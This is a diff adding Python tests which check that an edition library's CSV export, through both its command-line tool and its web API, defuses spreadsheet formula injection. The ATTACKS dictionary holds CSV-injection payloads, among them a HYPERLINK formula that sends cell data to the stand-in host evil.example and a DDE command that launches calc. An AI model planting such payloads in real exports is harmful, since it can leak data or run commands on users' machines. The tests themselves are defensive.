@@ -7,14 +7,22 @@ refused before it is built, and the library cleans what a killed writer left beh
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 from pathlib import Path
+from typing import Any
 
+from companion.edition_edit import cards_from_csv, itineraries_from_csv
 from companion.editions import shipped_edition
 from companion.engine.edition import edition_to_json
 from companion.library import EditionLibrary, copy_name
 
+from tests_support import api_client
+
 REFERENCE = edition_to_json(shipped_edition("reference"))
+PIN = {"X-Table-Pin": "2468"}
 
 
 # --- item 5: an import never overwrites an owner's edition --------------------------------------
@@ -36,3 +44,75 @@ def test_importing_a_long_named_edition_three_times_keeps_every_copy(tmp_path: P
 
 def test_a_copys_name_is_a_slug_even_when_the_cut_ends_on_a_dash() -> None:
     assert copy_name("a" * 29 + "-bcdef", 12) == "a" * 29 + "-12"
+
+
+# --- item 3: a CSV export runs no formula in a spreadsheet --------------------------------------
+
+ATTACKS = {
+    "I01": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "I02": "=cmd|' /C calc'!A0",
+    "I03": "+SUM(1,2)",
+    "I04": "-2+3",
+    "I05": "@SUM(A1:A9)",
+    "I06": "\tTAB=1+1",
+    "I07": "\r=1+1",
+}
+
+
+def attacked_edition(library: EditionLibrary) -> None:
+    """An owner's edition whose titles, notes and an id start as formulas; Day I years BCE."""
+    obj = library.create("attacked", "reference", with_cards=True)
+    for card in obj["cards"]:
+        if card["id"] in ATTACKS:
+            card["title"] = card["note"] = ATTACKS[card["id"]]
+            card["year"] = -490
+    obj["cards"][7]["id"] = "=1+1"
+    obj["itineraries"][0]["id"] = "-T01"
+    library.save("attacked", obj)
+
+
+def formula_cells(text: str) -> list[str]:
+    """Every cell of a CSV a spreadsheet would run: it starts with = + - @ TAB CR and is not a number."""
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and re.fullmatch(r"-?[0-9]+", cell) is None
+    ]
+
+
+def test_the_cli_and_the_api_export_no_formula_and_read_back_the_same(tmp_path: Path, capsys: Any) -> None:
+    from companion.cli import main
+
+    library = EditionLibrary(tmp_path)
+    attacked_edition(library)
+    obj = library.raw("attacked")
+    assert main(["edition", "export", "attacked", "--csv", "--data-dir", str(tmp_path)]) == 0
+    cli_cards = capsys.readouterr().out
+    assert main(["edition", "export", "attacked", "--itineraries-csv", "--data-dir", str(tmp_path)]) == 0
+    cli_itineraries = capsys.readouterr().out
+    with api_client(tmp_path) as (http, _):
+        api_cards = http.get("/api/library/attacked/export?format=csv", headers=PIN).get_data(as_text=True)
+        api_itineraries = http.get(
+            "/api/library/attacked/export?format=itineraries-csv", headers=PIN
+        ).get_data(as_text=True)
+    for text in (cli_cards, api_cards, cli_itineraries, api_itineraries):
+        assert formula_cells(text) == []
+    assert api_cards == cli_cards
+    rows = {row[0]: row for row in csv.reader(io.StringIO(cli_cards, newline=""))}
+    assert rows["I01"][3] == "'" + ATTACKS["I01"] and rows["I01"][6] == "'" + ATTACKS["I01"]
+    assert rows["I01"][2] == "-490", "a BCE year stays a number"
+    assert "'=1+1" in rows
+    # the import reads each defused cell back to the text the owner typed
+    assert cards_from_csv(cli_cards) == obj["cards"]
+    assert [it["id"] for it in itineraries_from_csv(cli_itineraries)] == [
+        it["id"] for it in obj["itineraries"]
+    ]
+
+
+def test_a_title_that_starts_with_a_quote_is_kept_as_typed() -> None:
+    header = "id,day,year,title,hours,gains,note\n"
+    cards = cards_from_csv(header + "A,I,1,'Tis the season,1,,'quoted'\nB,I,2,'''=x,1,,\n")
+    assert [c["title"] for c in cards] == ["'Tis the season", "''=x"]
+    assert cards[0]["note"] == "'quoted'"
